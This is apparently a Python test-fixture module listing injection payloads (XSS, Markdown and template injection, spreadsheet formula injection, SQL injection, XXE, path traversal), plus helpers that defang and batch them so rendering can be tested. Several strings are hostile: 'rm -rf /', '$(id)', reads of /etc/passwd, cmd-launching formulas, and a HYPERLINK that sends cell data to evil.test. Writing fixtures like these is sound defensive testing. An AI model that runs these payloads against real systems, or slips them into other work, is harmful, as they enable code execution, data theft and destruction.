"""Texts that try to be more than text: markup, scripts, templates, spreadsheets' formulas, other formats' syntax."""

from __future__ import annotations

# The words of these stand on the page as they are written here, and do nothing. None may hold a word of the site's
# abbreviations or a unit, since those are marked up on purpose.
PAYLOADS: tuple[str, ...] = (
    # HTML
    "<script>window.__pwned=1</script>",
    '"><img src=x onerror="window.__pwned=1">',
    "'><svg/onload=window.__pwned=1>",
    "</title><script>window.__pwned=1</script>",
    "</script><script>window.__pwned=1</script>",
    "--><script>window.__pwned=1</script><!--",
    "]]><script>window.__pwned=1</script>",
    "</p></dd></dl></td></tr></table></section></main><h1>Broken out</h1>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.test/x.css>",
    '<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<a href="javascript:window.__pwned=1">press</a>',
    "javascript:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
    "onclick=window.__pwned=1",
    '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>',
    "<plaintext>",
    "<?php echo 1 ?><% x %><!DOCTYPE x>",
    # entities stay as they were typed
    "&#60;script&#62;window.__pwned=1&#60;/script&#62; &lt;b&gt; &amp;amp; &nbsp &copy &#x3c;",
    # Markdown, at the start of a line and within it
    "# Heading {#cite}",
    "Text {: onclick=window.__pwned=1 .evil #cite }",
    "{: #treatments onmouseover=window.__pwned=1 }",
    "{#id}",
    "[press](javascript:window.__pwned=1) ![x](https://evil.test/x.png)",
    "[press][1] [1]: javascript:window.__pwned=1",
    "[1]: https://evil.test/ \"title\"",
    "<https://evil.test/> <javascript:window.__pwned=1> https://evil.test/ www.evil.test",
    "*a* **b** _c_ __d__ ~~e~~ `f` ``g`` ***",
    "``` html <b>x</b> ```",
    "~~~",
    "| a | b | |---|---| | <b>c</b> | d |",
    "a | b || c \\| d",
    "- item + item * item 1. item > quote",
    "===",
    "---",
    "--- title: evil head: {} ---",
    "*[HTML]: evil [^1]: note [TOC] !!! note ??? x $$ y $$ ==z== ^^u^^ :smile: {++a++}",
    "\\ \\\\ \\* \\< trailing \\",
    # templates of the site engine and the like
    "{{ 7*7 }} {{ config }} {{ self.__init__.__globals__ }}",
    "{% raise %} {% include 'x' %} {# comment #} ${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s {0} {name!r} %s %n $HOME `id` $(id) ; rm -rf / #",
    # front matter and YAML
    ": a: b # c",
    "'single \"double' \"",
    "!!python/object:x &a *a ? - @ ` % >- |",
    # spreadsheets, databases, references, feeds
    '=HYPERLINK("https://evil.test/?x="&A1,"press")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'; DROP TABLE cases; -- ' OR 1=1 \" ` ; /* */",
    "} @comment{evil, note = {x}} \\input{/etc/passwd} \\write18{id} {{{ }}} $x_1^2$ ~ % #",
    "ER  - TY  - JOUR TI  - evil",
    "<entry><title>evil</title></entry><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "</text><script>window.__pwned=1</script><image href='https://evil.test/x.png'/>",
    "__proto__ constructor prototype toString hasOwnProperty",
    "../../../etc/passwd ..\\..\\x %2e%2e%2f CON NUL a:b",
    "drug:sorafenib \"unclosed -not response: :: ()",
)  # fmt: skip


def harmless(text: str) -> str:
    """A text of the same length with the same spaces, digits and letters, and nothing that could mean anything."""
    return "".join(c if c.isalnum() or c == " " else "x" for c in text)


def joined(payloads: tuple[str, ...], most: int = 1_900) -> tuple[str, ...]:
    """The payloads one after the other, in as few texts as a record takes."""
    texts = [""]
    for payload in payloads:
        if len(texts[-1]) + len(payload) + 1 > most:
            texts.append("")
        texts[-1] = f"{texts[-1]} {payload}".strip()
    return tuple(texts)
